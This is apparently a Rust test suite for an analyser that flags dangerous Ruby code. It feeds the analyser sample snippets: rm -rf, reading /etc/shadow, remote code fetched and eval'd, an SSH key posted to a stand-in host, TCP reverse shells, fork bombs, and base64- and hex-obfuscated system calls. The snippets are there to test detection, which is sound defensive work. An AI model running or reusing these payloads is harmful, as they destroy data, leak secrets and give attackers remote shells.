use super::recorder::{check, printed, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::Ruby;

#[test]
fn calls_that_run_programs_are_found() {
    check(
        LANG,
        &[
            (r#"system("rm -rf /x")"#, "shell: rm -rf /x"),
            (r#"exec "/bin/sh""#, "shell: /bin/sh"),
            (r"system 'git', 'push', '--force'", "run git push --force"),
            ("puts `id`", "shell: id"),
            ("puts %x{id -u}", "shell: id -u"),
            (r"system(*%w[rm -rf /x])", "run rm -rf /x"),
            (r#"IO.popen("id")"#, "shell: id"),
            (r#"IO.popen(["rm","-rf","/x"]).read"#, "run rm -rf /x"),
            (r#"require "open3"; Open3.capture2e("id","-u")"#, "run id -u"),
            (r#"spawn("id")"#, "shell: id"),
            (r#"x="halt"; `#{x}`"#, "shell: halt"),
            (r#"[1].each { |i| system("halt") }"#, "shell: halt"),
            ("def f(c)\n  system(c)\nend\nf 'halt'\nf('halt')", "shell: halt"),
            ("at_exit { system('halt') }", "shell: halt"),
            (r#"IO.popen("sh","w"){|f| f.puts "halt"}"#, "run sh < halt"),
        ],
    );
}

#[test]
fn disguised_texts_are_resolved() {
    check(
        LANG,
        &[
            (r#"require "base64"; system(Base64.decode64("aGFsdA=="))"#, "shell: halt <decoded>"),
            (r#"system(["68616c74"].pack("H*"))"#, "shell: halt <decoded>"),
            (r#"system("aGFsdA==".unpack1("m"))"#, "shell: halt <decoded>"),
            (r#"system("aGFsdA==".unpack("m")[0])"#, "shell: halt <decoded>"),
            (r"system([104,97,108,116].map(&:chr).join)", "shell: halt <decoded>"),
            (r"system([104,97,108,116].map{|c| c.chr}.join)", "shell: halt <decoded>"),
            (r#"system([104,97,108,116].pack("c*"))"#, "shell: halt <decoded>"),
            (r#"system("tlah".reverse)"#, "shell: halt <decoded>"),
            (r#"send(:system, "halt")"#, "shell: halt"),
            (r#"Kernel.send("sys"+"tem", "halt")"#, "shell: halt"),
            (r#"method(:system).call("halt")"#, "shell: halt"),
            (r#"eval("sys"+"tem('halt')")"#, "shell: halt"),
            (r#"Object.const_get(:Kernel).send(:system,"halt")"#, "shell: halt"),
            ("system(<<~EOS)\n  halt\nEOS\n", "shell:   halt\n".trim_end()),
            ("system <<EOS\nhalt\nEOS\n", "shell: halt\n".trim_end()),
            ("x<<\"a\"\nsystem('halt')\na\n", "shell: halt"),
            ("x = ''\nx <<\"a\"\nsystem('halt')\na\n", "shell: halt"),
            ("[1]<<\"a\"\nsystem('halt')\na\n", "shell: halt"),
        ],
    );
}

#[test]
fn files_and_hosts_are_found() {
    check(
        LANG,
        &[
            (r#"require "fileutils"; FileUtils.rm_rf("/")"#, "Delete / [recursive] [forced]"),
            (r#"FileUtils.rm_rf Dir.glob("/var/*")"#, "Delete /var/* [recursive] [forced]"),
            (r#"File.delete("/etc/x")"#, "Delete /etc/x"),
            (r#"puts File.read("/etc/shadow")"#, "Read /etc/shadow"),
            (r#"File.write("/etc/x","p")"#, "Write /etc/x = p [emptying]"),
            (r#"File.open("/etc/x","a"){|f| f.puts "p"}"#, "Write /etc/x = p [appending]"),
            (r#"File.write(ENV["HOME"]+"/.bashrc","p")"#, "Write /home/ada/.bashrc = p [emptying]"),
            (r#"FileUtils.chmod_R(0777,"/")"#, "ChangeMode / [recursive] [world-writable] [executable]"),
            (
                r#"require "open-uri"; d = URI.open("http://h/x"); IO.copy_stream(d, "/etc/x")"#,
                "Write /etc/x = http://h/x [emptying] <network>",
            ),
            (r#"eval(URI.open("http://h/x").read)"#, "ruby: read <network>"),
            (r#"require "net/http"; eval Net::HTTP.get(URI("http://h/x"))"#, "ruby: http://h/x <network>"),
            ("Process.kill(9,-1)", "Kill All [with SIGKILL]"),
            ("puts ENV.to_h", "Read environment"),
            ("p ENV", "Read environment"),
            (
                r#"Net::HTTP.post(URI("http://h/"), File.read("/home/u/.ssh/id"))"#,
                "Send http://h/ [uploading] <secret>",
            ),
        ],
    );
}

#[test]
fn shells_wired_to_sockets_and_fork_bombs_are_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        LANG,
        &[
            (
                r#"exit if fork;c=TCPSocket.new("h",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end"#,
                control,
            ),
            (r#"f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#, control),
            ("loop{fork}", "Exhaust  [irreversible]"),
            ("loop do fork end", "Exhaust  [irreversible]"),
            ("fork while true", "Exhaust  [irreversible]"),
        ],
    );
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            "puts RUBY_VERSION",
            "puts 1",
            "puts ARGV.map(&:to_i).inject(&:+)",
            r#"puts "system('rm -rf /')""#,
            "# system 'x'",
            r#"require "json"; puts JSON.parse($stdin.read)["a"]"#,
            r"puts $_ if $_ =~ /system/",
            "puts (1..10).to_a.sum",
            r"%w[a b].each { |x| puts x }",
            r#"h = {a: 1, "b" => 2}; puts h[:a]"#,
            "exit if fork",
            "puts ENV['HOME']",
            "def add(a, b) a + b end\nputs add(1, 2)",
        ],
    );
    assert_eq!(printed(LANG, "puts ['6c73'].pack('H*')"), "ls\n");
}

#[test]
fn texts_that_grow_and_lists_that_are_indexed() {
    check(
        LANG,
        &[
            (r#"Dir["/x/*"].each { |f| File.delete f }"#, "Delete /x/*"),
            (r#"Pathname("/x").children.each(&:rmtree)"#, "Delete /x/* [recursive]"),
            (r#"x = "rm -rf "; x << "/x"; system x"#, "shell: rm -rf /x"),
            (r#"for d in ["/x", "/y"] do system "rm -rf #{d}" end"#, "shell: rm -rf /y"),
        ],
    );
    silent(LANG, &[r#"Dir["lib/*.rb"].each { |f| f.size }"#]);
}

#[test]
fn blocks_in_the_head_of_a_loop_are_part_of_it() {
    check(
        LANG,
        &[
            ("a = ''; for c in %w[d i].map { |l| l }.reverse do a += c end; system(a)", "shell: id"),
            ("system('%05d' % -2.to_s)", "shell: -0002"),
        ],
    );
}
